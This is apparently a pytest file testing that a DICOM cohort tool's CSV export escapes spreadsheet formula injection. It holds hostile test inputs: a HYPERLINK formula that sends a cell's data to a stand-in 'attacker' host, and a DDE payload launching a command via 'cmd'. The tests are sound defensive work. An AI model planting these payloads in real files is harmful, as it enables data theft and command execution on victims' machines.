"""A server names a patient, a segment or a reason so that a spreadsheet computes it as it opens a table."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dicomdock.cohort.results import write
from dicomdock.cohort.state import Outcome
from dicomdock.cohort.table import Item
from dicomdock.cohort.task import TaskReport
from dicomdock.dicom.resource import Resource
from dicomdock.imaging.formats.csv_text import csv_of

LINK = '=HYPERLINK("http://attacker/?"&A1,"open")'
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n")


def cells(text: str) -> list[list[str]]:
    return [*csv.reader(io.StringIO(text, newline=""))]


@pytest.mark.parametrize(
    "text", [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", " =1+1"]
)
def test_no_text_is_a_formula(text: str) -> None:
    ((_,), (cell,)) = cells(csv_of(["name"], [{"name": text}]))
    assert cell == f"'{text}"


@given(st.text() | st.floats() | st.integers())
def test_every_cell_is_a_number_or_a_text(value: object) -> None:
    (*_, (cell, _)) = cells(csv_of(["name", "x"], [{"name": value, "x": None}]))
    if cell.lstrip(" ").startswith(BEGINS) and len(cell) > 1:
        float(cell)
    assert cell.removeprefix("'") == str(value).removeprefix("'")


def test_the_results_of_a_cohort_hold_none(tmp_path: Path) -> None:
    item = Item(Resource("1.2", "1.2.3"), patient=LINK, description=LINK)
    outcome = Outcome(item.resource, "failed", LINK, {LINK: LINK})
    write(tmp_path / "results.csv", "cohort", [item], TaskReport("pull", (outcome,), 1))
    text = (tmp_path / "results.csv").read_text()
    assert LINK in text.replace('""', '"')
    assert not [cell for row in cells(text) for cell in row if cell.startswith("=")]
